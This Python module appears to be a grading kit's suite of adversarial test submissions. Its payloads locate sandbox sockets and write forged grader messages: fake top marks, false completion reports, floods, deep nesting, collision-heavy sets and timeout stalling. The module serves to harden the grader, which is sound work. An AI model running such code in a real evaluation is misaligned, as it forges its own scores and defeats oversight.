"""Code that speaks to the grader itself, over the line on which the sandbox sends its answers."""

from attacks.attack import Attack

# The descriptor of every socket that is open, and a way to write what the kit would write.
_LINE = """
import json, os, socket, stat, struct
lines = []
for number in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            lines.append(number)
    except OSError:
        pass

def write(data):
    data = data if isinstance(data, bytes) else json.dumps(data).encode()
    whole = struct.pack(">I", len(data)) + data
    for number in lines:
        view = memoryview(whole)
        while view:
            try:
                view = view[os.write(number, view):]
            except BlockingIOError:
                pass
"""
_WHY = "its words are those of this kit’s sandbox"


def _speaking(name: str, does: str, code: str, flag: str = "") -> Attack:
    return Attack(name, does, _LINE + code, flag=flag, kills=_WHY)


LINES = (
    _speaking("forged-marks", "Sends marks in the place of answers.", """
for place in range(80):
    write({"check": place, "points": 99, "mark": 99.0, "verdict": "right", "answer": '["float", "99.0"]'})
""", flag="spoke to the grader"),
    _speaking("forged-end", "Says that the run ended well, and that the sandbox is broken.", """
write({"at": 3, "points": 99})
write({"end": "no sandbox: it is broken", "points": 99, "marks": {"1": 1.0}})
os._exit(0)
"""),
    _speaking("forged-flood", "Sends so many messages that nobody asked for that both ends wait for each other.", """
for _ in range(30_000):
    write({"ran": 999, "outputs": []})
""", flag="spoke to the grader"),
    _speaking("forged-calls", "Answers calls of a function that nobody made.", """
for _ in range(3000):
    write({"gave": '["int", "1"]', "at": 1, "ran": "x", "check": 4})
""", flag="spoke to the grader"),
    _speaking("forged-size", "Sends a message that grows when it is passed on.", """
write(json.dumps({"ran": 999, "outputs": [{"output_type": "stream", "text": "é" * 12_000_000}]},
                 ensure_ascii=False).encode())
""", flag="spoke to the grader"),
    _speaking("forged-depth", "Sends messages that are nested as deep as can be read.", """
for depth in range(880, 1000):
    write(b'{"at": 999, "ran": ' + b"[" * depth + b"]" * depth + b"}")
""", flag="spoke to the grader"),
    _speaking("forged-deep-answer", "Sends an answer that is no text, and is nested very deep.", """
import inspect
job = next(frame.frame.f_locals["job"] for frame in inspect.stack() if "job" in frame.frame.f_locals)
here = [cell["place"] for cell in job["cells"]]
check = next(cell["place"] for cell in job["cells"] if cell["role"] == "check")
write(b'{"check": %d, "answer": ' % check + b"[" * 940 + b"]" * 940 + b"}")
write(b'{"check": %d, "slip": ' % check + b"[" * 940 + b"]" * 940 + b"}")
os._exit(0)
"""),
    _speaking("forged-outputs", "Sends outputs of its own for the cells, checks among them.", """
import inspect
job = next(frame.frame.f_locals["job"] for frame in inspect.stack() if "job" in frame.frame.f_locals)
mark = {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": "99.0",
        "application/vnd.attributed.mark+json": {"item": 1, "points": 99.0, "of": 1.0, "verdict": "right", "says": []}}}
at = next(n for n, cell in enumerate(job["cells"]) if "LINES OF" "" in cell.get("source", "") or "forged" in repr(cell))
for cell in job["cells"]:
    if cell["role"] != "check":
        write({"ran": cell["place"], "outputs": [mark, {"output_type": "error", "traceback": 1}, 7, None, mark]})
for cell in job["cells"]:
    if cell["role"] == "check":
        write({"ran": cell["place"], "outputs": [mark]})
""", flag="spoke to the grader"),
    _speaking("forged-numbers", "Sends an answer of numbers that take very long to put into a set.", """
import inspect
job = next(frame.frame.f_locals["job"] for frame in inspect.stack() if "job" in frame.frame.f_locals)
check = next(cell["place"] for cell in job["cells"] if cell["role"] == "check")
modulus = (1 << 61) - 1
packed = ["set", [["int", str(n * modulus)] for n in range(60_000)]]
write({"check": check, "answer": json.dumps(packed)})
os._exit(0)
"""),
    _speaking("forged-time", "Says again and again that the next cell has begun, so that its time is never over.", """
import signal, time
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
while True:
    for place in range(3, 60):
        write({"at": place})
        time.sleep(0.2)
""", flag="spoke to the grader"),
    _speaking("forged-half", "Sends half a message and waits.", """
for number in lines:
    os.write(number, struct.pack(">I", 0xFFFFFFF0) + b'{"check": 4')
""", flag="did not let itself be interrupted"),
    _speaking("forged-nonsense", "Sends what is no message.", """
for text in (b"[]", b"null", b"\\xff\\xfe", b"1" * 10_000, b'{"check": NaN, "answer": Infinity}'):
    write(text)
""", flag="spoke to the grader"),
    _speaking("forged-gigabyte", "Sends more than a submission may.", """
for _ in range(64):
    write({"ran": 1, "outputs": [{"output_type": "stream", "name": "stdout", "text": "x" * (1 << 20)}] * 2})
""", flag="put out more than a submission may"),
    _speaking("closed-line", "Closes the line, and reads from it what is meant for the kit.", """
for number in lines:
    socket.socket(fileno=number).shutdown(socket.SHUT_RD)
"""),
    _speaking("stolen-line", "Answers in the kit’s place, in a thread that reads along.", """
import threading, time
def along():
    while True:
        for number in lines:
            try:
                os.read(number, 1 << 16)
            except OSError:
                return
            write({"gave": '["int", "5"]'})
threading.Thread(target=along, daemon=True).start()
"""),
)  # fmt: skip
